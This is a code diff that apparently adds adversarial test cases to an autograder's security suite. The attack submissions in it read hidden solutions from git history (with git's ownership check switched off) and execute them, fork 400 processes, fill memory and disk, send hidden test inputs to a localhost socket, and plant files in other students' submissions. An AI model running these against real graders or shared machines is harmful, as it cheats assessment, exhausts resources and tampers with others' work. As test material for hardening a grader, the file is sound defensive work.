@@ -368,8 +368,127 @@ def max_batch_size(budget_bytes, fixed_bytes, per_sample_bytes):
     raise NotImplementedError'''})
 
 
+READ_HISTORY = Attack(
+    "read_history", "02_batch_size", honest=0,
+    what="recovers the solutions from the repository's history (git show, with git's ownership check off) or "
+         "from the course's solutions/, tests/ and build/ folders, and runs them",
+    after_setup=['''
+import json, os, pathlib, subprocess
+import course_lib
+
+def _sources():
+    root = pathlib.Path(course_lib.__file__).resolve().parent.parent
+    gits = [root / ".git"]
+    if gits[0].is_file():  # a worktree: .git names its folder, and that folder the shared one
+        own = pathlib.Path(gits[0].read_text().split("gitdir:", 1)[1].strip())
+        gits += [own, (own / (own / "commondir").read_text().strip()).resolve()]
+    for git in gits:
+        try:
+            run = subprocess.run(["git", "-c", "safe.directory=*", "--git-dir", str(git), "show",
+                                  "HEAD:solutions/02_batch_size.ipynb"], capture_output=True, timeout=30)
+            if run.returncode == 0:
+                yield run.stdout.decode()
+        except (OSError, IndexError):
+            pass
+    for folder in ("solutions", "tests", "build"):
+        for path in (root / folder).rglob("02_batch_size*.ipynb"):
+            try:
+                yield path.read_text()
+            except OSError:
+                pass
+
+def _steal():
+    for text in _sources():
+        try:
+            cells = json.loads(text)["cells"]
+        except ValueError:
+            continue
+        for cell in cells:
+            if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
+                exec("".join(cell["source"]), globals())
+        return'''],
+    cells={gid: "_steal()" for gid in ("q1_max_batch_size", "q2_warmup_scaled_lr", "q3_b_simple")})
+
+
+# ----- the machine: the network, the course's files, processes, memory, disk ------------------------
+
+def _first_question(name: str, what: str, abuse: str) -> Attack:
+    """Exercise 02 with ``abuse`` run before an honest answer to q1 (2 points), the rest untouched: the abuse
+    must cost q1, or not happen at all."""
+    return Attack(name, "02_batch_size", honest=0, what=what,
+                  cells={"q1_max_batch_size": textwrap.dedent(abuse).strip() + "\n\n"
+                         + solution_source("02_batch_size", "q1_max_batch_size")})
+
+
+FORK_STORM = _first_question("fork_storm", "starts 400 processes (each sleeps) before answering q1", '''
+import os, time
+for _ in range(400):
+    if os.fork() == 0:
+        time.sleep(60)
+        os._exit(0)''')
+
+MEMORY_HOG = _first_question("memory_hog", "allocates 12 GiB (256 MiB at a time) before answering q1", '''
+import torch
+_hog = [torch.empty(256 * 2**20, dtype=torch.uint8) for _ in range(48)]  # never written: costs no real memory''')
+
+DISK_FILLER = _first_question("disk_filler", "writes 1 GiB in its folder (16 MiB files) before answering q1", '''
+import os
+for _k in range(64):
+    with open(f"filler-{_k}.bin", "wb") as _f:
+        _f.write(os.urandom(2**20) * 16)''')
+
+
+def exfiltrate(port: int) -> Attack:
+    """Sends the hidden tests' inputs to a server on the grader's localhost (``port``), then answers q1 honestly."""
+    return Attack(
+        "exfiltrate", "02_batch_size", honest=2,
+        what="sends the inputs its function is called with to a server on the grader's localhost",
+        cells={"q1_max_batch_size": f'''
+import socket
+
+def _send(text):
+    try:
+        with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
+            s.sendall(text.encode())
+    except OSError:
+        pass
+
+{solution_source("02_batch_size", "q1_max_batch_size")}
+
+_honest = max_batch_size
+
+def max_batch_size(budget_bytes, fixed_bytes, per_sample_bytes):
+    _send(repr((budget_bytes, fixed_bytes, per_sample_bytes)))
+    return _honest(budget_bytes, fixed_bytes, per_sample_bytes)'''})
+
+
+def plant(token: str, folders: list[Path]) -> Attack:
+    """Writes a file named ``token`` into the trusted ``course_lib`` (first on every later kernel's path, and
+    the grader's own checker), the course's folder, ``folders`` (the class's submissions) and every other
+    kernel's work folder it finds, then answers q1 honestly."""
+    return Attack(
+        "planter", "02_batch_size", honest=2,
+        what="writes into course_lib, the course, the other submissions and the other kernels' folders",
+        cells={"q1_max_batch_size": f'''
+import glob, os, pathlib
+import course_lib
+
+_root = pathlib.Path(course_lib.__file__).resolve().parent
+_targets = [_root, _root.parent, *[pathlib.Path(f) for f in {[str(f) for f in folders]!r}]]
+_targets += [pathlib.Path(p) for p in glob.glob("/tmp/course-grading-*/work")]
+for _folder in _targets:
+    for _sub in [_folder, *[p for p in _folder.glob("*") if p.is_dir()]]:
+        try:
+            (_sub / {token!r}).write_text("import os  # planted")
+        except OSError:
+            pass
+
+{solution_source("02_batch_size", "q1_max_batch_size")}'''})
+
+
 IN_KERNEL = [ALWAYS_EQUAL, PATCHED_TORCH, TENSOR_SUBCLASS, REDEFINED_ABS, AST_TRANSFORMER, INPUT_TRANSFORMER,
-             REPLACED_REFERENCE, LAUNCHER_BESIDE, COURSE_LIB_BESIDE, READ_SOLUTIONS]
+             REPLACED_REFERENCE, LAUNCHER_BESIDE, COURSE_LIB_BESIDE, READ_SOLUTIONS, READ_HISTORY]
+LIMITS = [FORK_STORM, MEMORY_HOG, DISK_FILLER]   # each must score zero, with the limit named as the reason
 
 
 def write_solution(folder: Path, stem: str, name: str) -> Path:
